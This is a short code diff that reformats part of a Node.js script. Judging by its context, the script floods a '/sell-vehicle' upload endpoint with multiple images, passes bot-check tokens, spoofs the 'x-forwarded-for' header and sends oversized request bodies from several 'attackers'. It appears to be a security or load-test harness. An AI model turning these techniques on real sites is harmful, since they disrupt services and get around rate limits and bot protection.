@@ -46,7 +46,12 @@ async function submitPhotos(url, payload, token) {
   for (const [key, value] of Object.entries(fields)) form.set(key, value);
   form.set('botCheck', token.token);
   for (let index = 0; index < payload.count; index++) form.append('images', new File([payload.file], `p${index}.png`, { type: 'image/png' }));
-  const response = await fetch(`${url}/sell-vehicle`, { method: 'POST', body: form, redirect: 'manual', headers: { origin: url, 'x-forwarded-for': token.address } });
+  const response = await fetch(`${url}/sell-vehicle`, {
+    method: 'POST',
+    body: form,
+    redirect: 'manual',
+    headers: { origin: url, 'x-forwarded-for': token.address },
+  });
   await response.arrayBuffer();
   return response.status;
 }
@@ -89,7 +94,6 @@ function oversizeBody(url, pagePath, chunked, address) {
     write();
   });
 }
-
 
 const [url, name, attackerCount, bodies] = process.argv.slice(2);
 const attackers = Number(attackerCount);
